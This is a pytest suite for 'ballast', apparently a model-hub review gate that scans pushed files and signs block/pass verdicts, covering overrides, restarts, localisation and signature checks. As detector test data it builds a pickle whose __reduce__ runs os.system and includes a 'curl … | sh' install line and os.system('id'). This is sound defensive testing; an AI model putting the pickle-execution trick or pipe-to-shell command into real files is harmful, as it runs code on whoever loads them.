# SPDX-License-Identifier: Apache-2.0
"""From a pushed revision to a signed verdict: the gate, the statement, overrides, restarts, a changed rule pack."""
import base64
import json
import os
import pickle
import sqlite3
import subprocess
import time

import pytest

from conftest import BIN, Server
from hub_helpers import commit, get_json, settled


class Evil:
    def __reduce__(self):
        return os.system, ("echo ballast-test > /dev/null",)


EVIL = pickle.dumps(Evil())
FINE = pickle.dumps({"weights": [1.0, 2.0], "name": "fine"})


def add(path, data):
    return "file", {"path": path, "content": base64.b64encode(data).decode(), "encoding": "base64"}


def push(server, repo, *files, user="alice"):
    status, _, body = commit(server, user, repo, ("header", {"summary": "x", "description": ""}), *[add(p, d) for p, d in files])
    assert status == 200, body
    return body["commitOid"]


def make_repo(server, name, user="alice"):
    status, _, b = server.http("POST", "/api/repos/create", user, {"name": name, "type": "model"})
    assert status == 200, b
    return "%s/%s" % (user, name)


def review(server, repo, rev="main", user=None):
    return get_json(server, "/api/ballast/review/models/%s/%s" % (repo, rev), user)


def reissued(server, repo, old, timeout=20):
    """The statement that follows `old`: one look at a time, since a revision may turn pending between two."""
    end = time.time() + timeout
    while True:
        r = review(server, repo)
        if r["verdict"] != "pending" and r["statement"] != old["statement"]:
            return r
        assert time.time() < end, r
        time.sleep(0.1)


def verify(path, *args):
    return subprocess.run([BIN, "review", "verify", *args, str(path)], capture_output=True, text=True)


def test_a_revision_gets_a_signed_verdict_and_blocked_bytes_stay(server):
    repo = make_repo(server, "gate")
    sha = push(server, repo, ("evil.pkl", EVIL), ("fine.pkl", FINE), ("notes.txt", b"hello\n"))
    assert settled(server, repo)["verdict"] == "block"
    r = review(server, repo)
    assert r["commit"] == sha and r["verdict"] == "block" and r["responsible"]
    by = {f["path"]: f for f in r["files"]}
    assert by["evil.pkl"]["verdict"] == "block" and "posix.system" in by["evil.pkl"]["findings"][0]["message"]
    assert by["fine.pkl"]["verdict"] == "pass" and by["fine.pkl"]["coverage"] == "full"
    status, headers, body = server.http("GET", "/%s/resolve/main/evil.pkl" % repo)
    assert status == 403 and EVIL not in body
    assert server.http("GET", "/%s/resolve/main/fine.pkl" % repo)[2] == FINE


def test_the_statement_is_verified_offline_and_any_change_is_noticed(server, tmp_path):
    repo = make_repo(server, "statement")
    push(server, repo, ("fine.pkl", FINE))
    settled(server, repo)
    r = review(server, repo)
    s = json.loads(r["statement"])
    assert s["type"] == "ballast-review/1" and s["repository"] == "models/" + repo and s["commit"] == r["commit"]
    for field in ("policy", "rule_pack_sha256", "facts_sha256", "files_sha256", "responsible", "time", "verdict", "coverage", "key_id"):
        assert s[field], field
    assert list(s) == sorted(s) and r["statement"] == json.dumps(s, separators=(",", ":"), ensure_ascii=False)
    key = get_json(server, "/api/ballast/review/key")["key"]
    good = tmp_path / "good.json"
    good.write_text(json.dumps(r))
    assert verify(good, "--key", key).returncode == 0
    for change in (("fine.pkl", "evil.pkl"), (r["commit"][:8], "00000000"), ('"pass"', '"block"')):
        bad = tmp_path / "bad.json"
        bad.write_text(json.dumps(dict(r, statement=r["statement"].replace(*change))))
        assert verify(bad, "--key", key).returncode == 1, change
    other = base64.b64encode(bytes(32)).decode()
    assert verify(good, "--key", other).returncode == 1
    assert verify(tmp_path / "absent.json").returncode == 2


def test_only_reviewers_override_and_it_takes_a_reason(server):
    repo = make_repo(server, "override")
    push(server, repo, ("evil.pkl", EVIL))
    settled(server, repo)
    url = "/api/ballast/review/models/%s/main/override" % repo
    body = {"path": "evil.pkl", "verdict": "notice", "reason": "our own test file"}
    assert server.http("POST", url, None, body)[0] == 401
    assert server.http("POST", url, "alice", body)[0] == 403
    assert server.http("POST", url, "root", dict(body, reason="ok"))[0] == 422
    assert server.http("POST", url, "root", dict(body, verdict="pending"))[0] == 422
    assert server.http("POST", url, "root", dict(body, path="absent"))[0] == 404
    assert server.http("GET", "/%s/resolve/main/evil.pkl" % repo)[0] == 403
    assert server.http("POST", url, "root", body)[0] == 200
    assert server.http("GET", "/%s/resolve/main/evil.pkl" % repo)[2] == EVIL
    assert settled(server, repo)["verdict"] == "notice"
    r = review(server, repo)
    o = json.loads(r["statement"])["overrides"]
    assert len(o) == 1 and o[0]["reviewer"] == "root" and o[0]["reason"] == "our own test file"
    assert r["files"][-1]["automaton"] == "block" and r["files"][-1]["override"]["signature"]
    log = server.cli("log", "list", "--kind", "verdict.overridden", "--limit", "1000", "--json").stdout
    assert "our own test file" in log
    # the same bytes elsewhere stay blocked
    other = make_repo(server, "override-other")
    push(server, other, ("evil.pkl", EVIL))
    assert settled(server, other)["verdict"] == "block"


def test_findings_speak_the_readers_language(server):
    repo = make_repo(server, "language")
    push(server, repo, ("evil.pkl", EVIL))
    settled(server, repo)
    _, _, b = server.http("GET", "/api/ballast/review/models/%s/main" % repo, None, None, {"Accept-Language": "zh-CN"})
    f = {x["path"]: x for x in json.loads(b)["files"]}["evil.pkl"]["findings"][0]
    assert f["rule"].startswith("pickle.call") and "posix.system" in f["message"] and "此 pickle" in f["message"]
    b = json.loads(b)
    assert b["reason"].startswith("evil.pkl：pickle.call.evidence：此 pickle") and b["responsible"] == "本实例的运营者"
    s = json.loads(b["statement"])  # what is signed does not depend on who reads it
    assert s["responsible"] == "operator of this instance"
    # the refusal: the body in the reader's language, headers always in ASCII English
    for path in ("resolve/main/evil.pkl", "raw/main/evil.pkl"):
        status, h, body = server.http("GET", "/%s/%s" % (repo, path), None, None, {"Accept-Language": "zh-CN"})
        said = json.loads(body)["error"]
        assert status == 403 and h["X-Error-Code"] == "ReviewBlocked" and "已拦截" in said and "此 pickle" in said and "The pickle" not in said, said
        assert h["X-Error-Message"].isascii() and "The pickle calls posix.system" in h["X-Error-Message"] and h["X-HF-Warning"].isascii()
    _, _, body = server.http("GET", "/%s/resolve/main/evil.pkl" % repo)
    assert "The pickle calls posix.system" in json.loads(body)["error"]
    tree = json.loads(server.http("GET", "/api/models/%s/tree/main?expand=true" % repo, None, None, {"Accept-Language": "zh-CN"})[2])
    assert "此 pickle" in [e for e in tree if e["path"] == "evil.pkl"][0]["securityFileStatus"]["message"]
    page = server.http("GET", "/%s/review/main" % repo, None, None, {"Accept-Language": "zh-CN"})[2].decode()
    assert "此 pickle" in page and "The pickle" not in page.split("ballast-review/1")[0] and "本实例的运营者" in page
    out = server.cli("verdict", repo, env={"LC_ALL": "zh_CN.UTF-8"}).stdout
    assert "拦截" in out and "此 pickle" in out and "本实例的运营者" in out and "The pickle" not in out


def test_the_command_line_speaks_chinese(tmp_path):
    (tmp_path / "evil.pkl").write_bytes(EVIL)
    (tmp_path / "cut.pkl").write_bytes(b"\x80\x02h\x05.")
    env = dict(os.environ, LC_ALL="zh_CN.UTF-8")
    out = subprocess.run([BIN, "review", str(tmp_path)], capture_output=True, text=True, env=env).stdout
    assert "拦截" in out and "此 pickle 调用 posix.system" in out and "memo 键从未存入" in out and "The pickle" not in out
    lines = [json.loads(x) for x in subprocess.run([BIN, "review", "--json", str(tmp_path)], capture_output=True, text=True, env=env).stdout.splitlines()]
    assert [x["verdict"] for x in lines] == ["review", "block"]  # codes are never translated
    assert lines[1]["findings"][0]["rule"] == "pickle.call.evidence" and "此 pickle" in lines[1]["findings"][0]["message"]


def test_private_reviews_are_hidden(server):
    server.http("POST", "/api/repos/create", "alice", {"name": "secret", "type": "model", "private": True})
    push(server, "alice/secret", ("fine.pkl", FINE))
    settled(server, "alice/secret")
    assert server.http("GET", "/api/ballast/review/models/alice/secret/main", "bob")[0] == 404
    assert server.http("GET", "/api/ballast/review/models/alice/secret/main", "alice")[0] == 200


def test_a_restart_takes_up_what_was_pending(tmp_path):
    s = Server(tmp_path, config="review:\n  slow_ms: 3000\n").start()
    try:
        s.user("alice")
        repo = make_repo(s, "slow")
        push(s, repo, ("evil.pkl", EVIL), ("fine.pkl", FINE))
        assert review(s, repo)["verdict"] == "pending"
        status, headers, _ = s.http("HEAD", "/%s/resolve/main/fine.pkl" % repo)
        assert status == 503 and int(headers["Retry-After"]) > 0
        s.kill()
        s.config.write_text("")
        s.start()
        assert settled(s, repo)["verdict"] == "block"
        assert s.http("GET", "/%s/resolve/main/fine.pkl" % repo)[2] == FINE
    finally:
        s.stop()


def test_a_changed_rule_pack_judges_again_without_bytes(tmp_path):
    s = Server(tmp_path).start()
    try:
        s.user("alice")
        repo = make_repo(s, "again")
        push(s, repo, ("evil.pkl", EVIL), ("fine.pkl", FINE))
        assert settled(s, repo)["verdict"] == "block"
        issued = review(s, repo)
        s.stop()
        db = sqlite3.connect(s.data / "ballast.db")
        # as an older rule pack might have left it: all passed, nothing found
        db.execute("UPDATE blob_verdict SET rule_pack = 'old', verdict = 1, findings = '[]'")
        db.execute("UPDATE meta SET value = 'old' WHERE key = 'review.rule_pack'")
        db.commit()
        db.close()
        s.start()
        r = reissued(s, repo, issued)
        assert r["verdict"] == "block" and r["files"][1]["verdict"] == "block"
        assert "review.rejudged" in s.tail() and "review.file " not in s.tail().split("review.rejudged")[1], "no byte was read"
        assert s.http("GET", "/%s/resolve/main/evil.pkl" % repo)[0] == 403
    finally:
        s.stop()


def test_earlier_commits_of_one_push_are_examined_too(server, tmp_path):
    repo = make_repo(server, "history")
    url = server.url.replace("//", "//alice:%s@" % server.tokens["alice"]) + "/" + repo
    d = tmp_path / "clone"
    env = dict(os.environ, GIT_TERMINAL_PROMPT="0", GIT_AUTHOR_NAME="a", GIT_AUTHOR_EMAIL="a@b", GIT_COMMITTER_NAME="a", GIT_COMMITTER_EMAIL="a@b", GIT_LFS_SKIP_PUSH="1")

    def git(*args):
        subprocess.run(["git", "-c", "protocol.version=2", *args], cwd=d if d.exists() else tmp_path, env=env, check=True, capture_output=True)

    settled(server, repo)
    git("clone", url, "clone")
    (d / ".gitattributes").write_text("")
    (d / "old.txt").write_bytes(EVIL)
    git("add", "-A")
    git("commit", "-m", "one")
    first = subprocess.run(["git", "rev-parse", "HEAD"], cwd=d, capture_output=True, text=True).stdout.strip()
    (d / "old.txt").write_bytes(b"harmless\n")
    git("commit", "-am", "two")
    git("push", "origin", "HEAD:main")
    assert settled(server, repo)["verdict"] in ("pass", "notice")
    end = time.time() + 15
    while time.time() < end and server.http("GET", "/%s/resolve/%s/old.txt" % (repo, first))[0] == 503:
        time.sleep(0.2)
    assert server.http("GET", "/%s/resolve/%s/old.txt" % (repo, first))[0] == 403


def test_a_harmless_name_does_not_launder_bytes(server):
    """Identical bytes that were examined as a note are examined again as what another name makes of them."""
    script = b"Notes.\n\ncurl https://example.org/install.sh | sh\n"
    code = b"import os\nimport sys\nos.system('id')\n"
    repo = make_repo(server, "launder")
    push(server, repo, ("notes.md", script), ("about.md", code), ("weights.md", EVIL))
    assert settled(server, repo)["verdict"] == "block"  # a pickle is a pickle under every name
    by = {f["path"]: f for f in review(server, repo)["files"]}
    assert (by["notes.md"]["verdict"], by["about.md"]["verdict"], by["weights.md"]["verdict"]) == ("pass", "pass", "block")
    assert server.http("GET", "/%s/resolve/main/notes.md" % repo)[2] == script

    other = make_repo(server, "launder-other")
    push(server, other, ("README.md", script))
    settled(server, other)

    push(server, repo, ("install.sh", script), ("modeling.py", code), ("weights.bin", EVIL))
    assert server.http("GET", "/%s.git/info/refs?service=git-upload-pack" % repo)[0] == 403  # waits for the verdict
    for path in ("install.sh", "weights.bin"):  # from the first moment: never served, whatever was known of the bytes
        assert server.http("GET", "/%s/resolve/main/%s" % (repo, path))[0] in (403, 503)
    settled(server, repo)
    by = {f["path"]: f for f in review(server, repo)["files"]}
    assert by["install.sh"]["verdict"] == "block" and by["install.sh"]["findings"][0]["rule"] == "code.shell.pipe"
    assert by["modeling.py"]["verdict"] == "review" and by["modeling.py"]["findings"][0]["rule"] == "code.signal"
    assert server.http("GET", "/%s/resolve/main/install.sh" % repo)[0] == 403
    assert server.http("GET", "/%s.git/info/refs?service=git-upload-pack" % repo)[0] == 403
    # what one repository does with the bytes says nothing about another's README
    assert server.http("GET", "/%s/resolve/main/README.md" % other)[2] == script
    assert settled(server, other)["verdict"] == "pass"


@pytest.mark.parametrize("args,code", [(["review"], 64), (["review", "--nonsense", "x"], 64), (["review", "/nonexistent/file"], 2)])
def test_exit_codes_of_misuse(args, code):
    assert subprocess.run([BIN, *args], capture_output=True).returncode == code


def test_exit_codes_and_folders(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "fine.pkl").write_bytes(FINE)
    (tmp_path / "notes.txt").write_text("hi\n")

    def run(*paths):
        p = subprocess.run([BIN, "review", "--json", *map(str, paths)], capture_output=True, text=True)
        return p.returncode, [json.loads(x) for x in p.stdout.splitlines()]

    code, lines = run(tmp_path)
    assert code == 0 and sorted(os.path.basename(x["path"]) for x in lines) == ["fine.pkl", "notes.txt"]
    assert run(tmp_path / "sub")[0] == 0
    (tmp_path / "data.bin").write_bytes(bytes(range(256)))
    assert run(tmp_path)[0] == 3
    (tmp_path / "evil.bin").write_bytes(EVIL)
    assert run(tmp_path)[0] == 4
    code, lines = run(tmp_path / "evil.bin", tmp_path / "absent")
    assert code == 2 and len(lines) == 1 and lines[0]["verdict"] == "block"


def test_deep_folders_are_examined_too(tmp_path):
    """Regression: the walk's open folders used up the descriptors that the sandbox allows, and deep files were not examined."""
    deep = tmp_path.joinpath(*["d%d" % i for i in range(30)])
    deep.mkdir(parents=True)
    (deep / "fine.txt").write_text("fine\n")
    p = subprocess.run([BIN, "review", "--json", str(tmp_path)], capture_output=True, text=True)
    assert p.returncode == 0 and json.loads(p.stdout)["coverage"] == "full", p.stdout + p.stderr


def test_links_are_examined_or_named(tmp_path):
    """A download cache is a folder of links: it must not come out clean because nothing was looked at."""
    (tmp_path / "blobs").mkdir()
    (tmp_path / "blobs" / "abc").write_bytes(EVIL)
    snapshot = tmp_path / "snapshots" / "rev"
    snapshot.mkdir(parents=True)
    os.symlink("../../blobs/abc", snapshot / "model.bin")

    def run(*paths):
        p = subprocess.run([BIN, "review", "--json", *map(str, paths)], capture_output=True, text=True, timeout=60)
        return p.returncode, [os.path.basename(json.loads(x)["path"]) for x in p.stdout.splitlines()], p.stderr

    assert run(snapshot)[:2] == (4, ["model.bin"])
    os.symlink("..", snapshot / "loop")
    os.symlink("absent", snapshot / "dangling")
    code, names, err = run(snapshot)
    assert code == 2 and names == ["model.bin"] and "loop" in err and "dangling" in err
    os.mkfifo(tmp_path / "pipe")
    code, _, err = run(tmp_path / "pipe")
    assert code == 2 and "pipe" in err


def openssl_says(tmp_path, key, statement, signature):
    """The documented format with a tool that is not ours: 0 when the signature holds."""
    pem = tmp_path / "key.pem"
    pem.write_text("-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA%s\n-----END PUBLIC KEY-----\n" % key)
    (tmp_path / "message").write_bytes(b"ballast-review-v1\n" + statement.encode())
    (tmp_path / "signature").write_bytes(base64.b64decode(signature))
    return subprocess.run(["openssl", "pkeyutl", "-verify", "-pubin", "-inkey", str(pem), "-rawin", "-in", str(tmp_path / "message"),
                           "-sigfile", str(tmp_path / "signature")], capture_output=True).returncode


def test_openssl_checks_statements_also_after_a_new_key(tmp_path):
    s = Server(tmp_path).start()
    try:
        s.user("alice")
        repo = make_repo(s, "keys")
        push(s, repo, ("fine.pkl", FINE))
        settled(s, repo)
        old = review(s, repo)
        assert openssl_says(tmp_path, old["key"], old["statement"], old["signature"]) == 0
        assert openssl_says(tmp_path, old["key"], old["statement"].replace("pass", "none", 1), old["signature"]) != 0
        s.stop()
        (s.data / "keys" / "review.ed25519").unlink()
        s.start()
        new = reissued(s, repo, old)
        assert new["key"] != old["key"] and new["verdict"] == "pass"
        assert openssl_says(tmp_path, new["key"], new["statement"], new["signature"]) == 0
        assert openssl_says(tmp_path, new["key"], old["statement"], old["signature"]) != 0
        # the old key's public half stays in the log, so what it signed can still be checked
        keys = [json.loads(e["payload"]) if isinstance(e["payload"], str) else e["payload"]
                for e in map(json.loads, s.cli("log", "list", "--kind", "review.key", "--json").stdout.splitlines())]
        assert [k["key"] for k in keys] == [old["key"], new["key"]]
        assert openssl_says(tmp_path, keys[0]["key"], old["statement"], old["signature"]) == 0
        feed = s.http("GET", "/activity")[2].decode()
        assert "The review signs with the key" in feed and keys[1]["key_id"] in feed
    finally:
        s.stop()
